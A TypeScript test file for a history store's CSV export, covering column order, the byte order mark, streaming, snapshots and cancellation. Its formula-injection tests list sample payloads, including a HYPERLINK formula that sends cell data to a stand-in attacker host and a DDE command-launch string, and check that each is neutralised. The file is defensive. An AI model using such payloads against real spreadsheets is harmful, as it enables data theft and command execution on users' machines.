import BetterSqlite3 from 'better-sqlite3';
import { once } from 'node:events';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { FAILURE_HINTS } from '../../src/protocol/failure-codes.js';
import { CSV_COLUMNS } from '../../src/history/index.js';
import { allPages, attempt, OWNER, openTempHistory, parseCsv, readAll, T0, type TempHistory } from './history-fixtures.js';

let h: TempHistory;
beforeEach(() => {
  h = openTempHistory();
});
afterEach(() => {
  h.cleanup();
});

const exportOf = async (q = {}): Promise<Buffer> => readAll(h.store.exportCsv(OWNER, q));

describe('CSV export', () => {
  it('given attempts, then the CSV parses back to the same rows as the history view, newest first, with a header', async () => {
    h.store.recordMany([
      attempt({ at: T0, operator: 'Zoë Martín', serial: 'C6N-AAAAAA-00001', devId: 'dev-a' }),
      attempt({ at: T0 + 1000, result: 'NOT_BOUND', method: 'wired', batchId: null, devId: 'dev-b' }),
      attempt({ at: T0 + 2000, result: 'FAILED', code: 'WIFI_AUTH', serial: null, pid: 'nvr-n8w', devId: 'dev-c', tokenId: null, seq: null }),
      attempt({ at: T0 + 3000, result: 'UNBOUND', code: 'SERIAL_MISMATCH', devId: 'dev-d', operator: 'O\'Brien, "Bench" 2' }),
    ]);
    const bytes = await exportOf();
    const { header, records } = parseCsv(bytes);
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(header).toEqual(['time', 'station', 'operator', 'account', 'method', 'batch', 'product', 'device', 'serial', 'result', 'code', 'hint']);

    const rows = allPages(h.store, OWNER);
    expect(records).toEqual(
      rows.map((r) => ({
        time: r.at,
        station: r.stationId,
        operator: r.operator,
        account: r.accountId,
        method: r.method,
        batch: r.batchId ?? '',
        product: r.pid ?? '',
        device: r.devId,
        serial: r.serial ?? '',
        result: r.result,
        code: r.code ?? '',
        hint: r.code ? FAILURE_HINTS[r.code] : '',
      })),
    );
    expect(records.map((r) => r.device)).toEqual(['dev-d', 'dev-c', 'dev-b', 'dev-a']);
    expect(records[1]).toMatchObject({ time: new Date(T0 + 2000).toISOString(), result: 'FAILED', code: 'WIFI_AUTH', hint: FAILURE_HINTS.WIFI_AUTH, serial: '' });
    expect(records[3]!.hint).toBe('');
    expect(records[0]!.operator).toBe('O\'Brien, "Bench" 2'); // quoting survives the round trip
  });

  it('given a hint column in another language, then it comes after the stable columns, which stay as they are', async () => {
    h.store.recordMany([attempt({ at: T0, devId: 'dev-a' }), attempt({ at: T0 + 1000, result: 'FAILED', code: 'WIFI_AUTH', devId: 'dev-b' })]);
    const ru = { name: 'hint_ru', hintOf: (code: string) => `ru:${code}` };
    const { header, records } = parseCsv(await readAll(h.store.exportCsv(OWNER, {}, ru)));
    expect(header).toEqual([...CSV_COLUMNS, 'hint_ru']);
    expect(records[0]).toMatchObject({ device: 'dev-b', code: 'WIFI_AUTH', hint: FAILURE_HINTS.WIFI_AUTH, hint_ru: 'ru:WIFI_AUTH' });
    expect(records[1]).toMatchObject({ device: 'dev-a', code: '', hint: '', hint_ru: '' });
    // Nothing in scope: still the header, with the column.
    expect(parseCsv(await readAll(h.store.exportCsv({ accountId: 'acc-nobody', allPids: [], ownPids: [] }, {}, ru))).header).toEqual([...CSV_COLUMNS, 'hint_ru']);
  });

  it('starts with a UTF-8 byte order mark, so Excel reads accented operator names right', async () => {
    h.store.record(attempt({ operator: 'Zoë Martín' }));
    const bytes = await exportOf();
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString('utf8')).toContain('Zoë Martín');
  });

  describe('formula injection: what a spreadsheet would run is written as text', () => {
    it.each([
      ['an operator', { operator: '=HYPERLINK("http://evil.example/?d="&A1,"Click")' }, 'operator', '=HYPERLINK("http://evil.example/?d="&A1,"Click")'],
      ['an operator', { operator: '+1+cmd|"/c calc"!A0' }, 'operator', '+1+cmd|"/c calc"!A0'],
      ['an operator', { operator: '@SUM(1+1)' }, 'operator', '@SUM(1+1)'],
      ['a serial', { serial: '-2-3-ABC' }, 'serial', '-2-3-ABC'],
      ['a device id', { devId: '-dev-1' }, 'device', '-dev-1'],
      ['a station id', { stationId: '=1+1' }, 'station', '=1+1'],
      ['an operator (full-width equals sign)', { operator: '＝1+1' }, 'operator', '＝1+1'],
    ] as const)('given %s starting with a formula character, then the cell gets a leading apostrophe', async (_label, over, column, raw) => {
      h.store.record(attempt(over));
      const { records } = parseCsv(await exportOf());
      expect(records[0]![column]).toBe(`'${raw}`);
    });

    it('leaves ordinary values untouched', async () => {
      const row = h.store.record(attempt({ operator: 'Ana Ruiz', serial: 'C6N-7F3A21-00042' }))!;
      const { records } = parseCsv(await exportOf());
      expect(records[0]).toMatchObject({ operator: 'Ana Ruiz', serial: 'C6N-7F3A21-00042', time: row.at });
    });
  });

  it('given filters, then the export holds the filtered history only; cursor and limit do not cut it', async () => {
    h.store.recordMany(Array.from({ length: 30 }, (_, i) => (i % 3 ? attempt() : attempt({ result: 'FAILED', code: 'TIMEOUT' }))));
    const { records } = parseCsv(await exportOf({ result: 'FAILED', limit: 2 }));
    expect(records).toHaveLength(10);
    expect(records.every((r) => r.code === 'TIMEOUT' && r.hint === FAILURE_HINTS.TIMEOUT)).toBe(true);
  });

  it('given nothing to export, then it is still a CSV: the BOM and the header row', async () => {
    const bytes = await exportOf();
    expect(bytes.toString('utf8')).toBe(`\uFEFF${CSV_COLUMNS.join(',')}\n`);
    const none = await readAll(h.store.exportCsv({ accountId: 'acc-x', allPids: [], ownPids: [] }, {}));
    expect(none.toString('utf8')).toBe(`\uFEFF${CSV_COLUMNS.join(',')}\n`);
  });

  it('streams: a large export arrives in many bounded chunks, not as one buffer', async () => {
    h.store.recordMany(Array.from({ length: 5000 }, () => attempt()));
    const sizes: number[] = [];
    for await (const chunk of h.store.exportCsv(OWNER, {})) sizes.push((chunk as Buffer).length);
    expect(sizes.length).toBeGreaterThan(5);
    expect(Math.max(...sizes)).toBeLessThan(256 * 1024);
  });

  it('reads from a snapshot of its own: attempts recorded meanwhile are stored at once and do not join the running export', async () => {
    h.store.recordMany(Array.from({ length: 3000 }, () => attempt()));
    const stream = h.store.exportCsv(OWNER, {});
    const chunks: Buffer[] = [];
    const iterator = stream[Symbol.asyncIterator]();
    chunks.push((await iterator.next()).value as Buffer);
    // The bench keeps working during a long export: record() must not wait for it or fail.
    expect(h.store.record(attempt({ at: T0 + 10_000_000, devId: 'dev-during-export' }))).not.toBeNull();
    for (let r = await iterator.next(); !r.done; r = await iterator.next()) chunks.push(r.value as Buffer);
    const { records } = parseCsv(Buffer.concat(chunks));
    expect(records).toHaveLength(3000);
    expect(records.some((r) => r.device === 'dev-during-export')).toBe(false);
    expect(allPages(h.store, OWNER)).toHaveLength(3001);
  });

  it('given an export abandoned half-way (the download was cancelled), then its connection and snapshot are released', async () => {
    h.store.recordMany(Array.from({ length: 3000 }, () => attempt()));
    const stream = h.store.exportCsv(OWNER, {});
    await once(stream, 'readable');
    expect(stream.read()).not.toBeNull();
    h.store.record(attempt());

    // While the export holds its snapshot, the WAL cannot be reset: the proof that the snapshot exists.
    const checkpoint = (): number => {
      const db = new BetterSqlite3(h.path, { timeout: 0 }); // answer busy at once rather than wait
      try {
        return (db.pragma('wal_checkpoint(TRUNCATE)') as Array<{ busy: number }>)[0]!.busy;
      } finally {
        db.close();
      }
    };
    expect(checkpoint()).toBe(1);
    stream.destroy();
    await once(stream, 'close');
    expect(checkpoint()).toBe(0);
  });

  it('given the store closes during an export, then the export is ended rather than left reading', async () => {
    h.store.recordMany(Array.from({ length: 3000 }, () => attempt()));
    const stream = h.store.exportCsv(OWNER, {});
    await once(stream, 'readable');
    const closed = once(stream, 'close');
    h.store.close();
    await closed;
    expect(stream.destroyed).toBe(true);
  });
});
